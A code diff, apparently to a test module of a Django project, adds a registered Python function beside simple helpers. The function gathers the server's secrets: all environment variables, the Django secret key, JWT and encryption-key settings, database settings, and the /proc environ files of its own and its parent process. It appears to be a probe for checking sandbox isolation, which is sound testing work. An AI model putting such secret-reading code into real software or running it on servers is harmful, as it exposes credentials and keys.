@@ -7,6 +7,7 @@ import sys
 import threading
 import time
 from pathlib import Path
+from typing import Any
 
 from django.conf import settings
 from django.db import connection
@@ -22,6 +23,18 @@ def add(a: int, b: int = 1) -> int:
 @python_function
 def total(numbers: list[int]) -> int:
     return sum(numbers)
+
+
+@python_function
+def surroundings() -> dict[str, Any]:
+    """Return what code in this process can read of the server's secrets."""
+    names = ("SECRET_KEY", "SIMPLE_JWT", "APFLOW_ENCRYPTION_KEYS", "DATABASES")
+    first = [f"/proc/{each}/environ" for each in ("self", os.getppid())] if sys.platform == "linux" else []
+    return {
+        "environ": dict(os.environ),
+        "settings": str([getattr(settings, name) for name in names]),
+        "first": [Path(each).read_text().replace("\0", "\n") for each in first if os.access(each, os.R_OK)],
+    }
 
 
 @python_function
